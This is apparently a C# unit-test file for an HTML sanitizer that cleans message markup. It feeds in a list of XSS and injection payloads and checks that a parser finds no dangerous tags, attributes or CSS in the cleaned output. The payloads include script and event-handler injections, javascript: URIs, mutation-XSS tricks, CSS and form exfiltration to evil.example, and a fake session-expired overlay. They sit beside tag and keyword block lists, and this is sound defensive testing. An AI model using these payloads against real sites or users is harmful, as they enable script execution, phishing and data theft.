using AngleSharp.Html.Parser;
using FlowBuilder.Runtime.Html;
using Shouldly;
using Xunit;

namespace FlowBuilder.Runtime.Tests.Html;

/// <summary>What a message may not do to whoever looks at it. The cleaned text is read again by a parser, as a browser would.</summary>
public sealed class Safe_html
{
    private static readonly string[] NoTags =
        [
            "script", "iframe", "frame", "object", "embed", "applet", "form", "input", "button", "select", "textarea", "option", "label",
            "meta", "base", "link", "svg", "math", "video", "audio", "source", "template", "noscript", "dialog", "portal", "marquee"
        ];

    public static TheoryData<string> Hostile =>
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x` `<script>alert(1)</script>\"` `>",
        "<body onload=alert(1)>hello</body>",
        "<p onclick=alert(1) onmouseover='alert(1)'>hello</p>",
        "<a href=\"javascript:alert(1)\">hello</a>",
        "<a href=\" jav\tascript:alert(1)\">hello</a>",
        "<a href=\"&#106;avascript:alert(1)\">hello</a>",
        "<a href=\"vbscript:msgbox(1)\">hello</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">hello</a>",
        "<img src=\"data:text/html;base64,PHNjcmlwdD4=\">",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<form action=https://evil.example><input name=password><button>Send</button></form>",
        "<textarea><img src=x onerror=alert(1)></textarea><select><option>1</select>",
        "<button formaction=javascript:alert(1)>hello</button>",
        "<iframe src=https://evil.example></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=https://evil.example/x.swf></object><embed src=x><applet code=x></applet>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href=https://evil.example/><link rel=stylesheet href=https://evil.example/x.css>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
        "<div style=\"width:expression(alert(1))\">hello</div>",
        "<div style=\"background:url(javascript:alert(1))\">hello</div>",
        "<div style=\"background-image:url(https://evil.example/x.png)\">hello</div>",
        "<style>@import 'https://evil.example/x.css'; p{color:red}</style><p>hello</p>",
        "<style>@font-face{font-family:x;src:url(https://evil.example/f)} body{background:url(//evil.example/x)}</style>",
        "<style>p{background:u\\72l(https://evil.example/x)}</style><p>hello</p>",
        "<div style=\"position:fixed;inset:0;z-index:9999;background:#fff\">Session expired</div>",
        "<style>.x{position:absolute!important;top:0;left:0}</style><div class=x>hello</div>",
        "<style></style><script>alert(1)</script></style>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template>",
        "<table background=https://evil.example/x.png><tr><td background=x>hello</table>",
        "<img srcset='https://evil.example/x.png 1x' src='https://evil.example/y.png'>",
        "<video src=https://evil.example/x autoplay><source src=x></video><audio src=x>",
        "<p id=content name=flowbuilder tabindex=1 contenteditable autofocus data-x=1>hello</p>",
        "<!--[if mso]><script>alert(1)</script><![endif]--><p>hello</p>",
        "<details open ontoggle=alert(1)>hello</details>",
        "<a href=https://ok.example target=_top ping=https://evil.example>hello</a>",
        "<title><img src=x onerror=alert(1)></title>",
        "<div style='font-family:\"</style><script>alert(1)</script>\"'>hello</div>",
    ];

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Does_nothing(string hostile)
    {
        var clean = SafeHtml.Of(hostile).Html;
        var document = new HtmlParser().ParseDocument(clean);
        foreach (var element in document.All)
        {
            NoTags.ShouldNotContain(element.LocalName, clean);
            foreach (var attribute in element.Attributes)
            {
                attribute.Name.StartsWith("on", StringComparison.Ordinal).ShouldBeFalse(clean);
                new[]
                {
                    "href", "action", "formaction", "background", "srcset", "id", "name", "target", "ping", "autofocus", "contenteditable"
                }.ShouldNotContain(attribute.Name, clean);
                if (attribute.Name == "src") attribute.Value.ShouldStartWith("data:image/", customMessage: clean);
            }

            if (element.GetAttribute("src") is { } source && source.StartsWith("data:image/svg", StringComparison.Ordinal))
                source.ShouldBe(SafeHtml.BlockedPicture);
        }

        foreach (var style in document.All
            .Select(element => element.GetAttribute("style"))
            .Concat(document.QuerySelectorAll("style").Select(element => element.TextContent))
            .OfType<string>())
            foreach (var word in (string[])["url(", "@import", "@font-face", "expression", "javascript", "</", "z-index", "position"])
                style.Replace("background-position", "", StringComparison.OrdinalIgnoreCase)
                    .ShouldNotContain(word, Case.Insensitive, clean);
        clean.ShouldNotContain("evil.example/x.js");
    }

    [Fact]
    public void Keeps_what_a_letter_is_made_of()
    {
        var safe = SafeHtml.Of("""
            <!doctype html><html><head><style>@media (max-width:600px){.box{width:100% !important}} h1{color:#2e7d32}</style></head>
            <body style="margin:0;background:#f4f7f2"><table width="560" cellpadding="8" bgcolor="#ffffff" align="center"><tr><td class="box" style="padding:8px 24px;border-radius:8px">
            <h1>Hello Ann</h1><p style="font-size:18px"><b>Total</b> &amp; more</p><a href="https://ok.example/a?b=1&amp;c=2" style="color:#fff">See it</a>
            <img alt="Logo" width="20" src="data:image/png;base64,iVBORw0KGgo="><img alt="Far" src="https://cdn.example/far.png"></td></tr></table></body></html>
            """);
        var document = new HtmlParser().ParseDocument(safe.Html);
        document.QuerySelector("h1")!.TextContent.ShouldBe("Hello Ann");
        document.QuerySelector("td")!.GetAttribute("style")!.ShouldContain("padding");
        document.QuerySelector("table")!.GetAttribute("bgcolor").ShouldBe("#ffffff");
        safe.Html.ShouldContain("@media");
        document.QuerySelector("a")!.GetAttribute("title").ShouldBe("https://ok.example/a?b=1&c=2");
        document.QuerySelector("img[alt=Logo]")!.GetAttribute("src").ShouldBe("data:image/png;base64,iVBORw0KGgo=");
        document.QuerySelector("img[alt=Far]")!.GetAttribute("src").ShouldBe(SafeHtml.BlockedPicture);
        safe.BlockedPictures.ShouldBe(1);
    }

    [Theory]
    [InlineData(null)]
    [InlineData("")]
    [InlineData("just text")]
    public void Nothing_and_plain_text_are_documents_too(string? html) =>
        new HtmlParser().ParseDocument(SafeHtml.Of(html).Html).Body!.TextContent.Trim().ShouldBe(html ?? "");
}
